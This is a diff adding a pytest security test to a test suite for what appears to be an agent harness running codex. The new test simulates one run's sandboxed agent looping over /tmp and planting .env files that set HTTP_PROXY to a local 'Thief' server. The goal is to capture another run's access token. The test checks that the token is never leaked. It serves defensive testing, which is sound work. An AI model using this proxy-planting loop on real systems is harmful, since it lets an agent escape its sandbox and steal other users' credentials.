@@ -8,16 +8,20 @@ import json
 import os
 import secrets
 import shlex
+import shutil
 import signal
 import sys
 import tarfile
+import tempfile
 import threading
 import zipfile
+from pathlib import Path
 
 import pytest
 import tomli_w
 from integration.vault.conftest import Place, mount_kv
-from support.runs import JOB, tree
+from support.places import build_folder
+from support.runs import JOB, Project, tree
 from support.ways import ways
 from support.webhook import Receiver
 
@@ -396,6 +400,57 @@ def test_a_setting_of_codex_that_is_a_secret(project, way):
     found = [str(path) for path, data in tree(project.out).items() if secret.encode() in data]
     assert found == [], f"exit {done.code}"
     assert secret.encode() not in project.said
+
+
+@pytest.mark.thorough
+@pytest.mark.needs_sshd
+def test_another_run_that_looks_at_its_codex(there, codex, service, tmp_path_factory):
+    """One run's agent, in its sandbox, waits in /tmp for the folder in which another run asks codex about its token. It
+    leaves an .env there, which codex reads: its proxy would get the token.
+    """
+    heard = []
+
+    class Thief(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            heard.append(self.headers.get("authorization"))
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_CONNECT = do_GET  # noqa: N815 - the names that http.server calls
+
+        def log_message(self, *_):
+            pass
+
+    token = f"at-{secrets.token_hex(16)}"
+    service.accept({there.key, token})
+    setup = service.with_access_token(token)
+    home = Path(tempfile.mkdtemp(prefix="codex-home-", dir=build_folder()))
+    other = Project(tmp_path_factory.mktemp("other"), home, codex, service)
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Thief) as thief:
+        threading.Thread(target=thief.serve_forever, args=(0.02,), daemon=True).start()
+        proxy = f"HTTP_PROXY=http://127.0.0.1:{thief.server_port}"
+        plant = f"for f in /tmp/tmp.*/login; do [ -d $f ] && echo {proxy} >$f/.env; done"
+        loop = (
+            f"end=$(($(date +%s) + 12)); while [ $(date +%s) -lt $end ]; do for n in $(seq 300); do {plant}; done; done"
+        )
+        service.scenario("waits", script(shell(f"{{ {loop}; }} 2>/dev/null", wait=20), message("done")))
+        other.configure(prompt="SCN:waits", sandbox="workspace-write")
+        waiting = other.start("run", JOB)
+        try:
+            waiting.until(other.host_run)
+            waiting.until(lambda: any(each.scenario == "waits" for each in service.responses))
+            there.environ["CODEX_ACCESS_TOKEN"] = token
+            there.codex["config"] = setup.config
+            there.codex["env"] = {"CODEX_AUTHAPI_BASE_URL": setup.environment["CODEX_AUTHAPI_BASE_URL"]}
+            there.configure(credential={"source": "env", "allow_unexpiring": True})
+            while waiting.process.poll() is None and not heard:
+                there.run()
+        finally:
+            waiting.wait()
+            other.close()
+            shutil.rmtree(home)
+        thief.shutdown()
+    assert not any(token in (said or "") for said in heard), "another run's agent has had the token sent elsewhere"
 
 
 @pytest.mark.thorough
